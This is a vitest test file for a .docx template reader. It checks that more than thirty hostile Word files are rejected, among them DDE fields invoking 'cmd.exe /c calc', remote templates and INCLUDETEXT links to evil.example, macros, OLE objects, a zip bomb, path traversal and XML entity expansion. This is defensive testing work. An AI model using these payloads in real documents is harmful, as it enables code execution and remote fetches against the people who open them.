import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { largestTableFile } from '../../../lib/tables/formats/limits';
import { readXlsx } from '../../../lib/tables/formats/xlsx-read';
import { type WordFault, wordFaults } from '../../../lib/tables/formats/docx-open';
import { mergeTemplate, readTemplate } from '../../../lib/tables/formats/docx-template';
import { writeXlsx } from '../../../lib/tables/formats/xlsx-write';
import { workedMs } from '../../worked-time';
import { type HandMade, field, handMade, paragraphs, relation, row, run, scopeOf, spaces, wordType } from './docx-kit';

/** Milliseconds that a file may take at most, whatever is in it. */
const longest = 3000;

const external = 'TargetMode="External"';
const override = (name: string, type: string) => `<Override PartName="/word/${name}" ContentType="${type}"/>`;
const settings = (relations: string): HandMade => ({
  more: { 'word/_rels/settings.xml.rels': `<Relationships>${relations}</Relationships>` },
});
const body = (xml: string): HandMade => ({ body: `<w:p>${xml}</w:p>` });
const entities = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>';

const nested = (depth: number) => `${'{#a}'.repeat(depth)}x${'{/a}'.repeat(depth)}`;

/** A zip whose directory says that its parts have a password. */
function sealed(): Uint8Array {
  const bytes = handMade({});
  const view = new DataView(bytes.buffer);
  for (let at = 0; at < bytes.length - 46; at += 1) if (view.getUint32(at, true) === 0x02014b50) bytes[at + 8] = 1;
  return bytes;
}

/** A zip of which one byte of the content has changed. */
function damaged(): Uint8Array {
  const bytes = handMade({ more: { 'word/a.xml': zipSync({ a: strToU8('x'.repeat(99)) }) } });
  const at = bytes.length >> 1;
  bytes[at] = (bytes[at] ?? 0) ^ 0xff;
  return bytes;
}

type Hostile = readonly [name: string, file: Uint8Array | HandMade, reason: WordFault, at?: string | RegExp];

const files: readonly Hostile[] = [
  ['nothing', new Uint8Array(), 'empty'],
  ['more than may be', new Uint8Array(largestTableFile + 1).fill(0x50), 'tooBig'],
  [
    'an old Word file, or one with a password',
    Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1]),
    'oldWordOrPassword',
  ],
  ['a text', strToU8('{申請人.氏名}'.repeat(9)), 'notZip'],
  ['a zip that is none', Uint8Array.from([0x50, 0x4b, 3, 4, 1, 2, 3]), 'notZip'],
  ['a zip of something else', zipSync({ 'a.txt': strToU8('x') }), 'notWord'],
  ['an Excel file', writeXlsx([{ name: '表', rows: [[{ text: 'a' }]], widths: [] }]), 'notWord'],
  ['a package without a document', { rootRelations: '' }, 'notWord'],
  [
    'a package with two documents',
    { rootRelations: relation('officeDocument', 'word/document.xml').repeat(2) },
    'notWord',
  ],
  ['a document that is not there', { without: ['word/document.xml'] }, 'notWord'],
  ['a document that is no Word document', { document: '<html/>' }, 'notWord'],
  ['a damaged zip', damaged(), 'damaged'],
  ['a zip with a password', sealed(), 'encrypted'],
  ['a zip bomb', { more: { 'word/media/a.bin': new Uint8Array(60 * 1024 * 1024) } }, 'unpacksTooBig'],
  ['a part that leads out of the folder', { more: { '../../evil.xml': '<a/>' } }, 'damaged'],
  ['two parts that are one to Windows', { more: { 'WORD/document.xml': '<a/>' } }, 'damaged'],
  ['a body beyond measure', body(run('a'.repeat(4_100_000))), 'tooBig'],
  ['macros', { more: { 'word/vbaProject.bin': strToU8('x') } }, 'macros'],
  ['macros under another name', { more: { 'word/x.bin': 'x' }, relations: relation('vbaProject', 'x.bin') }, 'macros'],
  [
    'a .docm without its macros',
    { types: `<Types>${override('document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml')}</Types>` },
    'macros',
  ],
  [
    'a .dotm',
    {
      types: `<Types>${override('document.xml', 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml')}</Types>`,
    },
    'macros',
  ],
  [
    'a template elsewhere',
    settings(relation('attachedTemplate', 'https://evil.example/a.dotm', external)),
    'attachedTemplate',
    'https://evil.example/a.dotm',
  ],
  ['a template on a disk', settings(relation('attachedTemplate', 'file:///C:/a.dotx', external)), 'attachedTemplate'],
  [
    'a list of the mail merge',
    settings(relation('mailMergeSource', 'file:///C:/list.xlsx', external)),
    'mailMergeSource',
    /list\.xlsx/,
  ],
  [
    'a connection of the mail merge',
    {
      more: {
        'word/settings.xml': `<w:settings ${spaces}><w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>`,
      },
    },
    'mailMergeSource',
  ],
  [
    'a picture elsewhere',
    { relations: relation('image', 'http://evil.example/a.png', external) },
    'externalPart',
    'http://evil.example/a.png',
  ],
  ['a picture on a share', { relations: relation('image', '\\\\evil\\a.png', external) }, 'externalPart'],
  [
    'a picture elsewhere that does not say so',
    { relations: relation('image', 'https://evil.example/a.png') },
    'externalPart',
  ],
  [
    'a frame elsewhere',
    {
      more: {
        'word/_rels/webSettings.xml.rels': `<Relationships>${relation('frame', 'http://evil.example/', external)}</Relationships>`,
      },
    },
    'externalPart',
  ],
  [
    'an old drawing with a picture elsewhere',
    body('<w:r><w:pict><v:shape><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict></w:r>'),
    'externalPart',
  ],
  ['another document inside', { body: '<w:altChunk r:id="a"/>' }, 'altChunk'],
  ['another document by its relation', { relations: relation('aFChunk', 'a.html') }, 'altChunk'],
  ['an object', body('<w:r><w:object><o:OLEObject ProgID="Package"/></w:object></w:r>'), 'embedded'],
  ['an object by its relation', { relations: relation('oleObject', 'x.bin') }, 'embedded'],
  ['an object by its folder', { more: { 'word/embeddings/a.bin': 'x' } }, 'embedded'],
  ['a control', { more: { 'word/activeX/activeX1.xml': '<ax/>' } }, 'embedded'],
  ['a control in the text', body('<w:r><w:control r:id="a"/></w:r>'), 'embedded'],
  ['DDE', body(field(' DDE cmd.exe "/c calc" ')), 'activeField', /^DDE cmd/],
  ['DDEAUTO, cut over runs', body(field(' DD', 'EAU', 'TO c:\\\\x ')), 'activeField', /^DDEAUTO/],
  [
    'DDE inside of another field',
    body(
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 </w:instrText></w:r>${field(' DDE x ')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
    ),
    'activeField',
  ],
  ['DDE in a simple field', body('<w:fldSimple w:instr=" dde x y "/>'), 'activeField'],
  ['INCLUDETEXT', body(field(' INCLUDETEXT "http://evil.example/a.docx" ')), 'activeField'],
  [
    'INCLUDEPICTURE in a header',
    {
      more: {
        'word/header1.xml': `<w:hdr ${spaces}><w:p>${field(' INCLUDEPICTURE "http://evil.example/a.png" \\d ')}</w:p></w:hdr>`,
      },
      moreTypes: override('header1.xml', wordType('header')),
    },
    'activeField',
  ],
  [
    'a header whose name says nothing',
    {
      more: { 'word/x.foo': `<w:hdr ${spaces}><w:altChunk/></w:hdr>` },
      moreTypes: override('x.foo', wordType('header')),
    },
    'altChunk',
  ],
  [
    'a header by an ending in large letters',
    {
      more: { 'word/x.FOO': `<w:hdr ${spaces}><w:altChunk/></w:hdr>` },
      types: `<Types><Default Extension="foo" ContentType="${wordType('header')}"/>${override('document.xml', wordType('document.main'))}</Types>`,
    },
    'altChunk',
  ],
  [
    'XML under the name of a picture',
    { more: { 'word/media/a.png': `<w:hdr ${spaces}><w:altChunk/></w:hdr>` } },
    'altChunk',
  ],
  [
    'UTF-16 under the name of a picture',
    { more: { 'word/media/a.png': Uint8Array.from([0xff, 0xfe, 0x3c, 0]) } },
    'brokenXml',
  ],
  ['broken XML', { document: `<w:document ${spaces}><w:body><w:p></w:body></w:document>` }, 'brokenXml'],
  ['XML that ends early', { document: `<w:document ${spaces}><w:body>` }, 'brokenXml'],
  ['broken content types', { types: '<Types><Override' }, 'brokenXml'],
  ['content types of nothing', { types: '' }, 'brokenXml'],
  ['another encoding', { document: `<?xml version="1.0" encoding="UTF-7"?><w:document ${spaces}/>` }, 'brokenXml'],
  [
    'bytes that are no UTF-8',
    { more: { 'word/document.xml': Uint8Array.from([0x3c, 0x61, 0xff, 0x3e]) } },
    'brokenXml',
  ],
  ['entities', { document: `${entities}<w:document ${spaces}><w:body>&b;</w:body></w:document>` }, 'entities'],
  [
    'a document type in another part',
    { more: { 'word/styles.xml': `<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>` } },
    'entities',
  ],
  ['a section without its end', { body: paragraphs('{#職歴}', '{会社}') }, 'unclosed', '{#職歴}'],
  ['an end without its section', { body: paragraphs('{会社}', '{/職歴}') }, 'unopened', '{/職歴}'],
  ['sections across each other', { body: paragraphs('{#a}{#b}{/a}{/b}') }, 'unopened', '{/a}'],
  ['a brace alone', { body: paragraphs('{会社') }, 'badBrace', '{会社'],
  ['double braces', { body: paragraphs('{{会社}}') }, 'badBrace'],
  ['a placeholder over two paragraphs', { body: paragraphs('{会', '社}') }, 'badBrace'],
  [
    'a section from a table to below it',
    { body: `<w:tbl>${row('{#a}', 'b')}</w:tbl>${paragraphs('{/a}')}` },
    'structure',
  ],
  [
    'a section that a link begins in',
    { body: `<w:p><w:hyperlink>${run('a{#b}')}</w:hyperlink>${run('c{/b}')}</w:p>` },
    'structure',
  ],
  [
    'one like that inside of another',
    {
      body: `${paragraphs('{#a}')}<w:p><w:hyperlink>${run('a{^b}')}</w:hyperlink>${run('c{/b}')}</w:p>${paragraphs('{/a}')}`,
    },
    'structure',
  ],
  [
    'sections in each other beyond measure',
    { body: paragraphs('{#a}'.repeat(30_000) + '{/a}'.repeat(30_000)) },
    'tooBig',
  ],
  ['sections nine deep', { body: paragraphs(nested(9)) }, 'structure'],
  ['too many placeholders', { body: paragraphs('{a}'.repeat(4000)) }, 'tooBig'],
];

describe('a hostile Word file', () => {
  it('is one of more than thirty, and every reason but that of a fact is shown', () => {
    expect(files.length).toBeGreaterThan(30);
    expect([...new Set(files.map(([, , reason]) => reason))].sort()).toEqual(
      wordFaults.filter((fault) => fault !== 'forbiddenCharacter').sort(),
    );
  });

  it.each(files.map(([name, file, reason, at]) => ({ name, file, reason, at })))(
    'is refused and nothing is thrown: $name',
    ({ file, reason, at }) => {
      const bytes = file instanceof Uint8Array ? file : handMade(file);
      const start = workedMs();
      const read = readTemplate(bytes);
      expect(workedMs() - start, 'the time it took').toBeLessThan(longest);
      expect(read).toMatchObject({ ok: false, reason });
      if (at !== undefined) expect(read).toHaveProperty('at', expect.stringMatching(at));
      expect(mergeTemplate(bytes, scopeOf({})), 'merging says the same').toEqual(read);
    },
  );

  it('says in which part a section has no end', () => {
    const bytes = handMade({
      more: { 'word/footer1.xml': `<w:ftr ${spaces}>${paragraphs('{#a}')}</w:ftr>` },
      moreTypes: override('footer1.xml', wordType('footer')),
    });
    expect(readTemplate(bytes)).toEqual({ ok: false, reason: 'unclosed', at: '{#a}', part: 'word/footer1.xml' });
  });

  it.each([
    ['eight sections in each other', nested(8)],
    ['3,999 placeholders', '{a}'.repeat(3999)],
  ])('may still have %s', (_, text) => {
    expect(readTemplate(handMade({ body: paragraphs(text) }))).toMatchObject({ ok: true, tags: ['a'] });
  });

  it('may have a drawing that carries its picture in itself', () => {
    const svg = '<svg xmlns="s"><image href="data:image/png;base64,AAAA"/></svg>';
    expect(readTemplate(handMade({ ...body(run('{a}')), more: { 'word/media/a.svg': svg } }))).toMatchObject({
      ok: true,
    });
  });

  it('may have links, which nobody follows but a person', () => {
    const bytes = handMade({
      ...body(run('{a}')),
      relations: relation('hyperlink', 'https://www.example.jp/', external),
    });
    expect(readTemplate(bytes)).toMatchObject({ ok: true, tags: ['a'] });
  });

  it.each(['PAGE', 'NUMPAGES', 'DATE \\@ "yyyy"', 'HYPERLINK "https://www.example.jp/"', 'REF ADDED', 'TOC'])(
    'may have the field %s',
    (instruction) => {
      expect(readTemplate(handMade(body(`${run('{a}')}${field(instruction)}`)))).toMatchObject({ ok: true });
    },
  );

  it.each(['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '@a', '=[ ]=', '-w:tr a'])(
    'may call a placeholder %s: it is a name that nothing has',
    (name) => {
      const bytes = handMade({ body: paragraphs(`x{${name}}y`) });
      expect(readTemplate(bytes)).toEqual({ ok: true, tags: [name], warnings: [] });
      const merged = mergeTemplate(bytes, scopeOf({ a: '<w:p/>' }));
      expect(merged).toMatchObject({ ok: true, unknown: [name] });
      expect(Object.prototype).not.toHaveProperty('polluted');
    },
  );

  it('is no table either', () => {
    expect(readXlsx(handMade({})).ok).toBe(false);
  });
});
